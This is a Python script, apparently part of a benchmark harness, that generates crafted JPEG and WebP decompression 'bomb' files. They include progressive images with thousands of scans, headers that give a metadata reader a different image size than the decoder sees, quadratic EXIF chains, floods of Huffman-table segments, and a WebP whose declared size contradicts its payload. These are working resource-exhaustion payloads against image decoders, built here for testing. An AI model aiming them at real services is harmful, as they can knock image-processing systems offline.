# Writes small files that cost much into ./bombs; bench/attack/main.ts runs it. Needs Pillow for WebP and noise.
import os, struct, io, sys
from PIL import Image
OUT='bombs'
def put(name, b):
    assert len(b) < 10_000_000, (name, len(b))
    open(f'{OUT}/{name}','wb').write(b); print(f'{name:38s} {len(b):>9d}')
def seg(m,d): return bytes([0xff,m])+struct.pack('>H',len(d)+2)+d
DQT=seg(0xdb,b'\0'+b'\1'*64)
# DC table: one code '0' -> symbol 0 ; AC: '0' -> EOB(0), '10' -> 0xE0 (EOB run 14)
def dht(cls,idn,lens,syms): return bytes([cls<<4|idn])+bytes(lens)+bytes(syms)
DC=seg(0xc4,dht(0,0,[1]+[0]*15,[0]))
AC=seg(0xc4,dht(1,0,[1,1]+[0]*14,[0,0xE0]))
def sof(m,w,h,comps): return seg(m,struct.pack('>BHHB',8,h,w,len(comps))+b''.join(bytes(c) for c in comps))
def sos(comps,ss,se,ahal): return seg(0xda,bytes([len(comps)])+b''.join(bytes(c) for c in comps)+bytes([ss,se,ahal]))
def pack(bits):
    bits+='1'*(-len(bits)%8); b=int(bits,2).to_bytes(len(bits)//8,'big') if bits else b''
    return b.replace(b'\xff',b'\xff\0')
def eobruns(n):
    # blocks covered by EOBn runs: symbol 0xE0 ('10') + 14 bits
    out=''
    while n>0:
        if n>=(1<<14):
            r=min(n,(1<<15)-1); out+='10'+format(r-(1<<14),'014b'); n-=r
        else: out+='0'; n-=1
    return out
w=h=4096; blocks=512*512
dc=pack('0'*blocks)
def prog(nscans,high):
    b=b'\xff\xd8'+DQT+DC+AC+sof(0xc2,w,h,[(1,0x11,0)])+sos([(1,0)],0,0,0)+dc
    e=pack(eobruns(blocks))
    for i in range(nscans): b+=sos([(1,0)],1,63,(1<<4|0) if high else 0)+e
    return b+b'\xff\xd9'
put('jpeg_prog_499_ac_first.jpg', prog(499,False))
put('jpeg_prog_499_refine.jpg', prog(499,True))
put('jpeg_prog_2000_refine.jpg', prog(2000,True))
# refinement where every coefficient is non-zero would need data; DC refinement of 499 scans: 1 bit per block
b=b'\xff\xd8'+DQT+DC+AC+sof(0xc2,w,h,[(1,0x11,0)])+sos([(1,0)],0,0,1)+dc
e=pack('1'*blocks)
b+=(sos([(1,0)],0,0,0x10)+e)*140
put('jpeg_prog_140_dcrefine.jpg', b+b'\xff\xd9')
# size lie: header reader takes FF01 for a segment with a length, the decoder for a lone marker
def lie(W,H,prog=False,comps=1):
    big=sof(0xc2 if prog else 0xc0,W,H,[(i+1,0x11,0) for i in range(comps)])
    small=sof(0xc0,8,8,[(1,0x11,0)])
    # FF 01 LL LL <skipped by header reader: big SOF ...>
    # decoder: FF01 lone; then bytes LL LL passed over ("whatever lies between segments"); then the big SOF
    inner=big
    hide=b'\xff\x01'+struct.pack('>H',len(inner)+2)+inner
    # the small SOF must be seen by the header reader only: put it where the decoder skips it: inside APP9 for the decoder,
    # i.e. header reader must be at a different alignment.  Use a second FF01: header reader skips its length bytes + payload
    # where payload begins an APPn whose length covers the small SOF for the decoder.
    app_len=2+len(small)+0
    hide2=b'\xff\x01'+struct.pack('>H',2+4)+b'\xff\xe9'+struct.pack('>H',app_len)+small
    nb=((W+7)//8)*((H+7)//8)
    if prog:
        data=b''.join(sos([(i+1,0)],0,0,0)+pack('0'*nb) for i in range(comps))
    else:
        data=sos([(i+1,0) for i in range(comps)],0,63,0)+pack('00'*nb*comps)
    return b'\xff\xd8'+DQT+DC+AC+hide+hide2+data+b'\xff\xd9'
put('jpeg_header_lies_256M.jpg', lie(16384,16384))
put('jpeg_header_lies_900M.jpg', lie(30000,30000))
put('jpeg_header_lies_65500sq_nodata.jpg', lie(8,8)[:-2].replace(struct.pack('>HH',8,8),struct.pack('>HH',65500,65500),1)+b'\xff\xd9')
# exif quadratic
def exifq(n):
    ifd=struct.pack('<H',65535)+struct.pack('<HHII',0x100,4,1,0)*65535
    head=b'\xff\xd8'
    buf=bytearray(head); segl=18; pos=len(head)+segl*n+4
    for i in range(n):
        start=len(head)+segl*i+10
        buf+=b'\xff\xe1'+struct.pack('>H',16)+b'Exif\0\0'+b'II*\0'+struct.pack('<I',pos-start)
    # ifd lies in COM segments: put raw after a COM header (length max 65535): entries read straight through, markers do not matter;
    # put the frame header before the IFD for the header reader? it must come after the APP1s: SOF, then SOS.., then IFD bytes
    buf+=b'\xff\xe2\0\2'   # filler 4 bytes so that pos is right
    rest=DQT+DC+AC+sof(0xc0,8,8,[(1,0x11,0)])+sos([(1,0)],0,63,0)+pack('00')+b'\xff\xd9'
    buf+=ifd
    return bytes(buf),rest
def exifq2(n):
    ifd=struct.pack('<H',65535)+struct.pack('<HHII',0x100,4,1,0)*65535
    tail=DQT+DC+AC+sof(0xc0,8,8,[(1,0x11,0)])+sos([(1,0)],0,63,0)+pack('00')+b'\xff\xd9'
    pos=2+18*n+len(tail)
    buf=bytearray(b'\xff\xd8')
    for i in range(n):
        start=2+18*i+10
        buf+=b'\xff\xe1'+struct.pack('>H',16)+b'Exif\0\0'+b'II*\0'+struct.pack('<I',pos-start)
    return bytes(buf)+tail+ifd
put('jpeg_exif_quadratic.jpg', exifq2(500_000))
put('jpeg_exif_quadratic_small.jpg', exifq2(5_000))
# many DHT segments
put('jpeg_580k_dht.jpg', b'\xff\xd8'+DQT+(seg(0xc4,dht(0,0,[0]*16,[])))*450_000+DC+AC+sof(0xc0,8,8,[(1,0x11,0)])+sos([(1,0)],0,63,0)+pack('00')+b'\xff\xd9')
big=b''.join(dht(0,0,[0]*16,[]) for _ in range(3800))
put('jpeg_580k_dht_packed.jpg', b'\xff\xd8'+DQT+seg(0xc4,big)*150+DC+AC+sof(0xc0,8,8,[(1,0x11,0)])+sos([(1,0)],0,63,0)+pack('00')+b'\xff\xd9')
# restart interval 1, 4096x4096
def rst():
    b=b'\xff\xd8'+DQT+DC+AC+seg(0xdd,b'\0\1')+sof(0xc0,w,h,[(1,0x11,0)])+sos([(1,0)],0,63,0)
    one=pack('00'); data=b''.join(one+bytes([0xff,0xd0+i%8]) for i in range(blocks-1))+one
    return b+data+b'\xff\xd9'
put('jpeg_restart_1.jpg', rst())
# quantisation tables of 65535, 16 bit
put('jpeg_quant65535.jpg', b'\xff\xd8'+seg(0xdb,b'\x10'+b'\xff\xff'*64)+DC+AC+sof(0xc0,w,h,[(1,0x11,0)])+sos([(1,0)],0,63,0)+pack('00'*blocks)+b'\xff\xd9')
# 4 components, progressive, 4096x4096
b=b'\xff\xd8'+DQT+DC+AC+sof(0xc2,w,h,[(i+1,0x11,0) for i in range(4)])
for i in range(4): b+=sos([(i+1,0)],0,0,0)+dc
put('jpeg_prog_4comp.jpg', b+b'\xff\xd9')
# sampling 4x4 for one, 1x1 others, tall
put('jpeg_1x65535.jpg', b'\xff\xd8'+DQT+DC+AC+sof(0xc0,1,65535,[(1,0x11,0)])+sos([(1,0)],0,63,0)+pack('00'*8192)+b'\xff\xd9')
put('jpeg_65535x255.jpg', b'\xff\xd8'+DQT+DC+AC+sof(0xc0,65535,255,[(1,0x11,0)])+sos([(1,0)],0,63,0)+pack('00'*8192*32)+b'\xff\xd9')
# honest big photograph with noise
import random
im=Image.effect_noise((4096,4096),90).convert('RGB')
for q in (75,50,30):
    o=io.BytesIO(); im.save(o,'JPEG',quality=q)
    if len(o.getvalue())<9_900_000: put(f'jpeg_4096_noise_q{q}.jpg',o.getvalue()); break
for q in (75,50,30):
    o=io.BytesIO(); im.save(o,'JPEG',quality=q,progressive=True)
    if len(o.getvalue())<9_900_000: put(f'jpeg_4096_noise_prog_q{q}.jpg',o.getvalue()); break
im=Image.new('RGB',(8192,8192)); o=io.BytesIO(); im.save(o,'JPEG'); put('jpeg_64Mpx.jpg',o.getvalue())
im=Image.new('RGB',(4096,4096)); o=io.BytesIO(); im.save(o,'WEBP',lossless=True); put('webp_4096_lossless.webp',o.getvalue())
im=Image.effect_noise((4096,4096),20).convert('RGB'); o=io.BytesIO(); im.save(o,'WEBP',quality=60); put('webp_4096_noise.webp',o.getvalue())
# webp lies: VP8X says 10x10, VP8L inside is 16383x16383
im=Image.new('RGB',(16383,16383)); o=io.BytesIO(); im.save(o,'WEBP',lossless=True); v=o.getvalue(); print('16383 webp',len(v))
i=v.index(b'VP8L'); vp8l=v[i:]
x=b'VP8X'+struct.pack('<I',10)+b'\0\0\0\0'+b'\x09\0\0'+b'\x09\0\0'
body=b'WEBP'+x+vp8l
put('webp_vp8x_lies.webp', b'RIFF'+struct.pack('<I',len(body))+body)
# webp with exif quadratic
